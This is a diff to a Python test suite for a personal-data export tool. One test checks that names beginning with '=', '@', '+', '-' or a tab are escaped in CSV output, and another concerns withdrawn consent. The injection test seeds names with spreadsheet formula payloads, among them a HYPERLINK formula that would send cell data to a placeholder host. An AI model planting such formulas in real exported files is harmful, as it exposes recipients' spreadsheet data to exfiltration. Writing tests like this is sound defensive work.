@@ -107,15 +107,14 @@ def test_a_name_in_a_csv_is_no_formula(small, tmp_path):
     """It would run in the recipient's spreadsheet."""
     one = small.copy(tmp_path / "home")
     with one.entered(), connected(*stores()) as connection:
-        for start, name in (("=", '=HYPERLINK("http://example.org?"&A1)'), ("\t", "\t=1+1"),
-                            ("-", "-2+3"), ("@", "@SUM(A1)"), ("+", "+1 555 0100")):  # fmt: skip
-            connection.execute(
-                "update vault.identifiers set full_name = ? where subject_key ="
-                " (select min(subject_key) from vault.identifiers"
-                "  where full_name like 'Person %' and subject_key not in"
-                "  (select subject_key from vault.identifiers where full_name like ?))",
-                [name, f"{start}%"],
-            )
+        formulas = [
+            '=HYPERLINK("http://example.org?"&A1)', "\t=1+1", "-2+3", "@SUM(A1)", "+1 555 0100",
+            "Anna Example",
+        ]  # fmt: skip
+        connection.execute(
+            "update vault.identifiers set full_name = (?::varchar[])[1 + hash(subject_key) % 6]",
+            [formulas],
+        )
     asked = ("export", "1", "--purpose", "personalised_offers", "--recipient", "offers_partner",
              "--unencrypted", "--json", "--to")  # fmt: skip
     done = one.assent(*asked, str(tmp_path / "audience.csv"))
@@ -127,7 +126,8 @@ def test_a_name_in_a_csv_is_no_formula(small, tmp_path):
     done_parquet = one.assent(*asked, str(tmp_path / "audience.parquet"))
     plain = pyarrow.parquet.read_table(tmp_path / "audience.parquet")["full_name"].to_pylist()
     assert [name.removeprefix("'") for name in names] == plain
-    assert done.json["apostrophes"] == len(marked) > 0
+    assert {name[:2] for name in marked} == {"'=", "'\t", "'-", "'@", "'+"}
+    assert done.json["apostrophes"] == len(marked) < len(names)
     assert done_parquet.json["apostrophes"] == 0
 
 
@@ -209,10 +209,10 @@ def test_a_clock_that_is_behind_forgets_no_denial(small, tmp_path):
     landed, found = exported("landed.csv")
     assert before - found == {first}
     assert (landed.json["at"], landed.json["judged_at"]) == (EARLIER, LATE)
-    withdraw(second, EARLIER)
+    withdraw(second, EARLIER)  # the clock is behind here, too, and this denial counts none the less
     both, found = exported("both.csv")
     assert before - found == {first, second}
-    assert both.json["held_back"] == {"segmentation: withdrawn": 2}
+    assert both.json["held_back"] == {"segmentation: withdrawn": 1}  # the first is no member now
 
 
 def test_a_damaged_file_is_named_with_its_remedy(small, tmp_path):
